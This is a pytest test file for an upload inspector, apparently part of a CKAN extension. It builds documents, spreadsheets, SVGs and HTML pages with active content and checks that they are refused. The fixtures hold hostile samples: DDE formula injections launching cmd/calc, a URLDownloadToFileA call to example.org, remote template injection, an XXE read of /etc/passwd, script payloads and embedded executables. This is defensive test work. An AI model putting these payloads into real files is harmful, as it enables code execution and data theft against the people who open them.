"""Pictures, pages and documents that do something when they are opened, made by the libraries."""

import io
import struct
import zipfile
from xml.sax.saxutils import quoteattr

import docx
import odfdo
import openpyxl
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml.ns import qn
from docx.oxml.parser import OxmlElement
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.workbook.external_link import ExternalLink
from openpyxl.workbook.external_link.external import ExternalBook

from ckanext.leszno_ngo import archives, compound_files, instructions, rich_text
from tests.content import files
from tests.pure.test_archives import MOST, OLE, packed

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
SHARED = (
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    "<si><t>Funkcja WEBSERVICE(adres) pobiera dane</t></si></sst>"
)
SHEET = "xl/worksheets/sheet1.xml"
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


FORMULAS = {
    "IMPORTTEXT": '_xlfn._xlws.IMPORTTEXT("http://example.org/a.csv")',
    "IMPORTCSV": 'SUM(_xlfn.importcsv ("http://example.org/a.csv"))',
    "IMPORTXML": 'IMPORTXML("http://example.org/a","//b")',
    "IMPORTRANGE": 'IMPORTRANGE("http://example.org/a","b")',
    "RTD": 'RTD("a.b","serwer","c")',
    "CALL": 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://example.org/a","c:\\a",0,0)',
    "EXEC": 'EXEC("calc.exe")',
    "plik": "'file:///c:/[a.xlsx]S'!A1",
    "sciezka": "1+'C:\\Dane\\[a.xlsx]S'!A1",
    "serwer": "'\\\\serwer\\dane\\[a.xlsx]S'!$A$1",
    "ksiazka": "SUM([a.xlsx]S!A1:A3)",
    "DDE": "cmd|'/C calc'!A0",
    "DDE-bez": "MSEXCEL|a!b",
    "DDE-cudzyslow": "'a\"b'!A1&cmd|'/C calc'!A0&\"\"",
    "DDE-nawias": "SUM(T['\"])+cmd|'/C calc'!A0&\"\"",
    "klik": 'HYPERLINK("macro:///a.b.c","dalej")',
    "klik-serwer": 'HYPERLINK("\\\\serwer\\a.exe")',
    "posrednio": "INDIRECT(\"'file:///c:/[a.xlsx]S'!A1\")",
}
QUIET_FORMULAS = (
    *("SUM(A1:B2)", "VLOOKUP(A1,'Rok 2025'!$A$1:$B$9,2,FALSE)", "SUM('Sty:Gru'!A1)"),
    *("Tabela1[[#This Row],[Kwota]]/Tabela1[[#Totals],[Kwota '[zł'] | razem]]", "SUM(T[a]/T[b])"),
    *('HYPERLINK("https://www.leszno.pl/","Leszno")', 'HYPERLINK("#\'Rok 2025\'!A1","Rok")'),
    *('IF(A1="a|b!c","[uwaga] stop!","C:\\Dane")', "IMREAL(A1)", "SUM({1,2;3,4})", "[1]S!A1"),
    *('HYPERLINK("mailto:bom@leszno.pl")', "INDIRECT(\"'Rok '&A1&'!B2\")", "'Dane | 2025'!A1"),
)
#: Fields as RTF may have them in pieces, and why they are refused.
RTF_BAD = (
    r"{\field{\*\fldinst {DDE}{AUTO c:\\windows\\cmd.exe}}}",
    r"{\field{\*\fldinst D\'44EAUTO cmd calc}}",
    r"{\field{\*\fldinst {\b D}{\i\fs20 D}{{E}AUTO} cmd}}",
    "{\\field{\\*\\fldinst DD\nEAU\r\nTO cmd}}",
    r"{\field{\*\fldinst \u68?\u68 ?EAUTO cmd}}",
    r"{\field{\*\fldinst \uc2\u68 ab\u68\'41\'42E cmd}}",
    r"{\field{\*\fldinst D{\*\nieznane x}DE cmd}}",
    r"{\field{\*\fldinst {\upr{x}{\*\ud DDE}} cmd}}",
    r'{\field{\*\fldinst INCLUDEPICTURE "http://example.org/a.png" \\* MERGEFORMAT}}',
    r'{\field{\*\fldinst {INCLUDE}{PICTURE} \\d "\\\\\\\\serwer\\\\a.png"}}',
    r"{\field{\*\fldinst INCLUDEPICTURE \'22\'68\'74tp://example.org/a.png\'22}}",
    r'{\field{\*\fldinst INCLUDEPICTURE "file:///c:/a.png"}}',
    r'{\field{\*\fldinst INCLUDETEXT "c:\\\\tajne.txt"}}',
    r'{\field{\*\fldinst LINK Excel.Sheet.12 "c:\\\\a.xlsx" "S!A1" \\a}}',
    r"{\field{\*\fldinst EMBED Package}}",
    r'{\field{\*\fldinst HYPERLINK "macro:///a.b.c"}}',
    r'{\field{\*\fldinst IF 1=1 {\field{\*\fldinst {DDE} a}{\fldrslt x}} ""}}',
    r"{\field{\*\fldinst {\field{\*\fldinst QUOTE x}{\fldrslt DDEAUTO}} cmd}}",
    r"{\field{\*\fldinst DDEAUTO cmd",
    r"{\field{\*\fldinst {\pict\bin5 }}}{}DDE cmd}}",
    r"{\*\template \'68ttp://example.org/a.dotm}",
    r"{\*\template {ht}{tp}://example.org/a.dotm}",
    r"{\*\template file://serwer/a.dotm}",
    r"{\shp{\*\shpinst{\sp{\sn pibFlags}{\sv 14}}}}",
)
RTF_GOOD = (
    r'{\field{\*\fldinst {HYPERLINK "https://www.leszno.pl/dde2" \\o "Link do strony"}}'
    r"{\fldrslt{\ul Leszno}}}",
    r"{\field{\*\fldinst PAGE  \\* MERGEFORMAT}{\fldrslt 1}}",
    r'{\field{\*\fldinst {TOC \\o "1-3"}}{\fldrslt '
    r"{\field{\*\fldinst PAGEREF _Toc1}{\fldrslt 2}}}}",
    r'{\field{\*\fldinst DATE \\@ "d.MM.yyyy"}{\fldrslt 1.12.2026}} DDEAUTO http://a.pl',
    r'{\field{\*\fldinst INCLUDEPICTURE "cid:a.png@01D1" \\* MERGEFORMATINET}}',
    r"{\field{\*\fldinst FORMTEXT {\*\formfield{\fftype0{\*\ffname Link}}}}{\fldrslt a}}",
    r'{\field{\*\fldinst XE "Import danych"}}{\*\template C:\\a\\Normal.dotm}',
    r"{\fonttbl{\f0 Arial;}}{\pict\pngblip 8950}{\sp{\sn pibFlags}{\sv 2}}Za\u380?\'f3\'b3\~",
)


def rich(inside):
    return f"{{\\rtf1\\ansi {inside}\\par}}".encode()


def saved(document):
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def changed(content, part, old, new):
    """An archive with a piece of one of its parts written otherwise."""
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as read, zipfile.ZipFile(file, "w") as written:
        for info in read.infolist():
            data = read.read(info)
            if info.filename == part:
                assert old in data, (old, data[:3000])
                data = data.replace(old, new, 1)
            written.writestr(info, data)
    return file.getvalue()


def word(template="", picture="", field=(), link=""):
    document = docx.Document()
    paragraph = document.add_paragraph("Umowa")
    if template:
        document.part._settings_part.relate_to(template, TEMPLATE, is_external=True)
    if picture:
        document.part.relate_to(picture, RELATIONSHIP_TYPE.IMAGE, is_external=True)
    if link:
        document.part.relate_to(link, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    for kind, pieces in (("begin", ()), (None, field), ("end", ())) if field else ():
        run = paragraph.add_run()
        if kind:
            mark = OxmlElement("w:fldChar")
            mark.set(qn("w:fldCharType"), kind)
            run._r.append(mark)
        for piece in pieces:
            one = OxmlElement("w:instrText")
            one.text = piece
            paragraph.add_run()._r.append(one)
    return saved(document)


def workbook(link="", cell="", name=""):
    book = openpyxl.Workbook()
    book.active.append(["nazwa", "kwota", cell])
    if name:
        book.defined_names["a"] = DefinedName("a", attr_text=name)
    book.active["D1"].hyperlink = "https://www.leszno.pl/"
    if link:
        relation = openpyxl.packaging.relationship.Relationship(
            type="externalLinkPath", Target=link, TargetMode="External"
        )
        relation.Id = "rId1"
        outside = ExternalLink(ExternalBook(id="rId1"))
        outside.file_link = relation
        book._external_links.append(outside)
    return saved(book)


def old_word(template, first=""):
    """The associated strings of a file of Word 97, where a sector of its table has them."""
    strings = [first, template, *[""] * 16]
    written = [struct.pack("<H", len(one)) + one.encode("utf-16-le") for one in strings]
    return OLE + bytes(65_000) + struct.pack("<HHH", 0xFFFF, 18, 0) + b"".join(written) + bytes(99)


def compound(*streams, beginning=b""):
    """An OLE file as its sectors lie: a header, then what each of its streams begins with."""
    sectors = (stream + bytes(-len(stream) % 512) for stream in streams)
    return OLE + b"".join(sectors) + "CONTENTS".encode("utf-16-le") + beginning


#: A program of Windows whose header of DOS says nothing but where the other one is.
PORTABLE = b"MZ" + bytes(58) + struct.pack("<I", 128) + bytes(64) + b"PE\0\0" + bytes(20)


def changed_object(content):
    """A text with an OLE object."""
    document = odfdo.Document("text")
    file = io.BytesIO(saved(document))
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("Object 1", content)
    return file.getvalue()


def sheet_of_odf(attribute):
    cell = f'<table:table table:name="a"><table:table-row><table:table-cell {attribute}/>'
    return text(f"{cell}</table:table-row></table:table>")


def nested_field(*marks):
    """A Word document of fields in each other: marks, instructions, and results (``t:``)."""
    document = docx.Document()
    paragraph = document.add_paragraph("Umowa")
    for mark in marks:
        run = paragraph.add_run()
        if mark in ("begin", "separate", "end"):
            one = OxmlElement("w:fldChar")
            one.set(qn("w:fldCharType"), mark)
        else:
            one = OxmlElement("w:t" if mark.startswith("t:") else "w:instrText")
            one.text = mark.removeprefix("t:")
        run._r.append(one)
    return saved(document)


def in_utf16(book):
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book)) as read, zipfile.ZipFile(file, "w") as written:
        for info in read.infolist():
            data = read.read(info)
            is_sheet = info.filename == SHEET
            written.writestr(info, data.decode().encode("utf-16") if is_sheet else data)
    return file.getvalue()


def text(body="", meta=""):
    document = odfdo.Document("text")
    document.body.append(odfdo.Paragraph("Umowa"))
    content = saved(document)
    if body:
        content = changed(
            content, "content.xml", b"</office:text>", body.encode() + b"</office:text>"
        )
    if meta:
        content = changed(content, "meta.xml", b"</office:meta>", meta.encode() + b"</office:meta>")
    return content


def picture(inside):
    return SVG.format(inside).encode()


ACTIVE_SVG = (
    *("<script>alert(1)</script>", '<path onload="alert(1)"/>', '<a href="javascript:alert(1)"/>'),
    *('<a xlink:href="java\nscript:alert(1)"/>', '<image xlink:href="https://example.org/a.png"/>'),
    *(
        '<use href="//example.org/a.svg#b"/>',
        "<foreignObject/>",
        '<use href="data:image/svg+xml,a"/>',
    ),
    *("<style>@import 'a.css';</style>", '<rect style="fill:url(https://example.org/a)"/>'),
    '<set attributeName="href" to="javascript:alert(1)"/>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    *("<style>@\\69mport 'a.css';</style>", "<style><style/>@import 'a.css';</style>"),
    *('<rect style="fill:u\\72l(http://a.pl/)"/>', '<path marker-end="url(http://a.pl/#a)"/>'),
    f'<rect style="fill:url({" " * 20}http://a.pl/)"/>',
    '<g xml:base="http://a.pl/"><image href="a.png"/></g>',
    '<style>a{background:image-set("http://a.pl/a.png" 1x)}</style>',
    '<animate attributeName="fill" values="url(http://a.pl/)"/>',
    *('<image><set attributeName="href" to="a.png"/></image>', '<animate attributeName=" HREF"/>'),
    '<animate attributeName="xlink:href" values="http://a.pl/;b"/>',
    '<x:animateColor xmlns:x="http://www.w3.org/2000/svg" x:attributeName="y:Href"/>',
    '<set attributeName="onclick" to="a"/>',
)
QUIET_SVG = (
    *('<path d="M0 0h9"/>', '<a xlink:href="https://www.leszno.pl/"><text>Leszno</text></a>'),
    *('<use href="#a"/>', '<image href="data:image/png;base64,iVBORw0KGgo="/>'),
    *('<rect style="fill:url(#g)"/>', "<style>.a{fill:#fff}</style>", '<animate values="0;1"/>'),
    '<animate attributeName="opacity" values="0;1"/>',
)
LINK = 'xlink:href="{}" xlink:type="simple"'
BAD = {
    **{f"{n}.svg": ("active", picture(inside)) for n, inside in enumerate(ACTIVE_SVG)},
    "utf16.svg": ("active", SVG.format(ACTIVE_SVG[0]).encode("utf-16")),
    "bez-przestrzeni.svg": ("active", b"<svg><script/></svg>"),
    "encja.svg": (
        "active",
        b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + picture("<text>&a;</text>"),
    ),
    "arkusz.svg": ("active", b'<?xml-stylesheet href="https://example.org/a.xsl"?>' + picture("")),
    "rozciety.svg": ("damaged", picture("<path")),
    "w-danych.xml": ("active", f"<dane>{picture(ACTIVE_SVG[0]).decode()}</dane>".encode()),
    "pole.docx": ("external", word(field=['DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'])),
    "pole-w-kawalkach.docx": ("external", word(field=["D", "DEAU", "TO cmd /k calc"])),
    "pole-liczbami.docx": ("external", word(field=["QUOTE 68 68 69 65 85 84 79"])),
    "szablon.docx": ("external", word(template="https://example.org/a.dotm")),
    "szablon-unc.docx": ("external", word(template="\\\\serwer\\a.dotx")),
    "szablon-plik.docx": ("external", word(template="file://serwer/a.dotx")),
    "obraz.docx": ("external", word(picture="https://example.org/a.png")),
    "laczone.xlsx": ("external", workbook("https://example.org/b.xlsx")),
    "laczone-obok.xlsx": ("external", workbook("file:///C:/Dane/b.xlsx")),
    "pobiera.xlsx": ("external", workbook(cell='=_xlfn.WEBSERVICE("https://a.pl/x")')),
    "pobiera-encja.xlsx": (
        "external",
        changed(workbook(cell="=WEB()"), SHEET, b"WEB(", b"web<!-- -->&#83;ervice ("),
    ),
    "kostka.xlsx": ("external", workbook(cell='=CUBEVALUE("Dane","[Measures].[A]")')),
    "pobiera-utf16.xlsx": ("external", in_utf16(workbook(cell='=WEBSERVICE("https://a.pl/x")'))),
    "pobiera-z-nazwy.xlsx": ("external", workbook(name='_xlfn.WEBSERVICE("https://a.pl/x")')),
    "obraz.xlsx": ("external", workbook(cell='=_xlfn.IMAGE("https://a.pl/x.png")')),
    "pobiera.xls": ("external", OLE + bytes(999) + "_xlfn.WEBSERVICE".encode("utf-16-le")),
    "szablon.doc": ("external", old_word("https://example.org/a.dot")),
    "szablon-unc.doc": ("external", old_word("\\\\serwer\\a.dot", "Jan")),
    "pole.doc": ("external", OLE + bytes(999) + b'\x13DDEAUTO c:\\cmd.exe "/k"\x15'),
    "szablon.odt": (
        "external",
        text(meta=f"<meta:template {LINK.format('https://example.org/a.ott')}/>"),
    ),
    "obraz.odt": (
        "external",
        text(f"<text:p><draw:image {LINK.format('http://example.org/a.png')}/></text:p>"),
    ),
    "dde.odt": (
        "external",
        text('<text:section text:name="a"><office:dde-source office:dde-item="a"/></text:section>'),
    ),
    "zdarzenie.odt": (
        "macros",
        text('<text:p><script:event-listener script:event-name="dom:load"/></text:p>').replace(
            b"", b""
        ),
    ),
    "szablon.rtf": ("external", b"{\\rtf1{\\*\\template http://example.org/a.dotm}Umowa}"),
    "pole.rtf": ("external", b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd calc}}}"),
}
BAD |= {f"pole-{n}.rtf": ("external", rich(inside)) for n, inside in enumerate(RTF_BAD)}
BAD |= {
    "obiekt.rtf": ("embedded", rich(r"{\object\objautlink\objupdate}")),
    "daleko.rtf": ("external", rich(r"\b a\b0 " * 20_000 + RTF_BAD[0])),
    "uciety.rtf": ("damaged", rich(r"{\pict\bin999 a}")),
    "inna-nazwa.doc": ("external", rich(RTF_BAD[1])),
    "tekst-z-pliku.docx": ("external", word(field=['INCLUDETEXT "c:\\\\tajne.txt"'])),
    "obraz-polem.docx": ("external", word(field=[" INCLUDE", 'PICTURE \\d "http://a.pl/x.png"'])),
    "makro.docx": ("external", word(link="vnd.sun.star.script:a.b?language=Basic")),
    "pole-z-pola.docx": (
        "external",
        nested_field("begin", "D", "begin", ' QUOTE "" ', "separate", "end", "DEAUTO cmd", "end"),
    ),
    "pole-z-wyniku.docx": (
        "external",
        nested_field(
            *("begin", "begin", " QUOTE a ", "separate", "t:DDEAUTO", "end", " cmd", "end")
        ),
    ),
    **{
        f"makro-{n}.odt": ("macros", text(f"<text:p><text:a {LINK.format(address)}/></text:p>"))
        for n, address in enumerate(
            ["vnd.sun.star.script:a.b?language=Basic", "macro:///a.b.c", " MACRO:a.b", "slot:5500"]
        )
    },
    "makro-obrazu.odt": (
        "macros",
        text(f"<text:p><draw:a {LINK.format('macro:///a.b.c')}><draw:frame/></draw:a></text:p>"),
    ),
    "wykonaj.odt": ("macros", text('<text:p><text:execute-macro text:name="a"/></text:p>')),
    "skrypt.odt": ("macros", text("<text:p><text:script>x</text:script></text:p>")),
    **{f"{n}.xlsx": ("external", workbook(cell=f"={f}")) for n, f in FORMULAS.items()},
    "nazwa.xlsx": ("external", workbook(name=FORMULAS["plik"])),
    "nazwa-dde.xlsx": ("external", workbook(name=FORMULAS["DDE"])),
    **{
        f"{n}.ods": ("external", sheet_of_odf(f"table:formula={quoteattr(formula)}"))
        for n, formula in {
            "pobiera": 'of:=WEBSERVICE("http://example.org/a")',
            "obraz": 'of:=COM.MICROSOFT.IMAGE("http://example.org/a")',
            "plik": "of:=['file:///c:/a.ods'#$S.A1]",
            "excel": "msoxl:=cmd|'/C calc'!A0",
            "dde": 'of:=DDE("soffice";"a";"b")',
            "klik": 'of:=HYPERLINK("vnd.sun.star.script:a.b";"c")',
            "posrednio": "of:=INDIRECT(\"'file:///c:/a.ods'#S.A1\")",
        }.items()
    },
    **{
        f"program-{n}.odt": ("program", changed_object(program))
        for n, program in enumerate(
            [
                compound(files.EXE),
                compound(bytes(900), files.EXE),
                compound(bytes(64) + b"\x7fELF\2\1\1" + bytes(99)),
                compound(b"#!/bin/sh\nls"),
                compound(b"a" * 70_000 + PORTABLE),
                compound(b"<?php system(1);"),
            ]
        )
    },
    "program.doc": ("program", compound(files.EXE)),
    "program.docx": ("program", packed({"word/embeddings/oleObject1.bin": compound(files.EXE)})),
}
PAGES = (
    *("<html><script>alert(1)</script>", "<!DOCTYPE html><p onclick='x()'>", "<form action=x>"),
    *("<html><meta http-equiv=refresh content='0;url=https://example.org'>", "<iframe src=x>"),
    *("<html><img src=https://example.org/a.png>", "<html><a href='javascript:x'>a</a>"),
    *("<html><a href='&#106;avascript:x'>a</a>", "<html><img src='ht\ntps://a.pl/a.png'>"),
    *("<html><link rel=stylesheet href=//a.pl/a.css>", "<html>&#" + "9" * 5000 + ";"),
    "<html><table><tr><td>=cmd|'/c calc'!A0</td></tr></table>",
)
GOOD = {
    **{f"{n}.svg": picture(inside) for n, inside in enumerate(QUIET_SVG)},
    "inkscape.svg": b"""<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
 "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns "http://ns.adobe.com/a/">]>"""
    + picture('<g xmlns:i="&ns;"/>'),
    "umowa.docx": word(link="https://www.leszno.pl/"),
    "szablon-u-siebie.docx": word(template="file:///C:\\Users\\a\\Normal.dotm"),
    "pole.docx": word(field=[" PAGE ", "\\* MERGEFORMAT"]),
    "dane.xlsx": workbook(cell="=SUM(A1:A2)"),
    "o-funkcji.xlsx": packed({"xl/sharedStrings.xml": SHARED}),
    "u-siebie.doc": old_word("C:\\Szablony\\pismo.dot"),
    "zwykle.doc": old_word("", "Normal"),
    "umowa.odt": text(
        f"<text:p><text:a {LINK.format('https://www.leszno.pl/')}>a</text:a></text:p>"
    ),
    "szablon.odt": text(meta=f"<meta:template {LINK.format('../../Szablony/a.ott')}/>"),
    "dane.xml": b"<dane><script>1</script><a href='http://example.org'/></dane>",
    **{f"{n}.rtf": rich(inside) for n, inside in enumerate(RTF_GOOD)},
    "obraz.rtf": rich(r"{\pict\bin9 {\object}} a}"),
    "spis.docx": nested_field(
        *(
            "begin",
            ' TOC \\o "1-3" ',
            "separate",
            "begin",
            ' HYPERLINK "https://a.pl/" ',
            "separate",
        )
        + ("t:Link do DDE", "end", "t:DDEAUTO", "end")
    ),
    "obraz-obok.docx": word(field=[r' INCLUDEPICTURE "C:\\Users\\a.png" \* MERGEFORMAT ']),
    **{f"{n}.xlsx": workbook(cell=f"={f}") for n, f in enumerate(QUIET_FORMULAS)},
    "tekst.xlsx": workbook(cell="cmd|'/C calc'!A0 oraz 'file:///c:/[a.xlsx]S'!A1, WEBSERVICE(x)"),
    "wlasne.ods": sheet_of_odf(
        f"table:formula={quoteattr('of:=VLOOKUP([.A1];[$Rok.A1:.B9];2)+SUM({1|2})![.A1]')}"
    ),
    "obiekt.odt": changed_object(compound(b"Gmina MZ", b"mz" * 32, b"MZ" + b"\xff" * 90)),
    "zepsute.xml": b"<dane><a></dane>",
    "trasa.kml": b'<kml xmlns="http://www.opengis.net/kml/2.2"><href>https://a.pl/x.png</href></kml>',
    "strona.zip": packed(
        {"index.html": "<!DOCTYPE html><title>Opis</title><a href='a.csv'>Dane</a>"}
    ),
}


def code_of(name, content):
    try:
        archives.inspect(io.BytesIO(content), name, MOST)
    except archives.ArchiveError as error:
        return error.code
    return ""


def assert_refused(name, code, content):
    """A file is refused alone and in an archive, for the same reason."""
    assert code_of(name, content) == code
    assert code_of("a.zip", packed({f"dane/{name}": content})) == code


def assert_taken(name, content):
    """A file is taken alone and in an archive."""
    assert code_of(name, content) == ""
    assert code_of("a.zip", packed({name: content})) == ""


@pytest.mark.parametrize("name", BAD)
def test_what_does_something_is_refused_alone_and_in_an_archive(name):
    assert_refused(name, *BAD[name])


@pytest.mark.parametrize("page", PAGES)
def test_pages_in_archives_that_do_something_are_refused(page):
    for name in ("index.html", "dane/opis.htm", "opis.xhtml"):
        assert code_of("a.zip", packed({name: page})) == "active"
    assert code_of("a.zip", packed({"opis.mhtml": page})) == "kind"


@pytest.mark.parametrize("name", GOOD)
def test_what_people_send_passes(name):
    assert_taken(name, GOOD[name])


def test_what_stands_far_in_a_file_is_seen():
    far = picture("<path/>" * 40_000 + "<script/>")
    assert code_of("a.svg", far) == "active"
    page = b"<!DOCTYPE html>" + b"<p>a</p>" * 40_000 + b"<script>"
    assert code_of("a.zip", packed({"a.html": page})) == "active"


def test_paths_of_this_machine_are_told_from_addresses():
    remote = (
        "http://a/b",
        "\\\\s\\a",
        "//s/a",
        "file://s/a",
        "file:////s/a",
        "ms-word:x",
        "smb://s",
    )
    local = (
        "a.xml",
        "../a",
        "C:\\a.dotx",
        "file:///C:/a",
        "file://localhost/a",
        "mailto:a@b.pl",
        "",
    )
    assert all(map(instructions.is_remote, remote))
    assert not any(map(instructions.is_remote, local))


@pytest.mark.parametrize("size", [1, 7, 61])
def test_nothing_depends_on_where_a_file_is_cut(size):
    for inside in (*RTF_BAD, *RTF_GOOD):
        content, watcher = rich(inside), rich_text.Watcher()
        pieces = [content[at : at + size] for at in range(0, len(content), size)]
        codes = [watcher.feed(piece, last=False) for piece in pieces] + [
            watcher.feed(b"", last=True)
        ]
        assert any(codes) == (inside in RTF_BAD), inside
    content, watcher = compound(bytes(64), PORTABLE), compound_files.Watcher()
    assert "program" in [
        watcher.feed(content[at : at + size], last=False) for at in range(0, len(content), size)
    ]
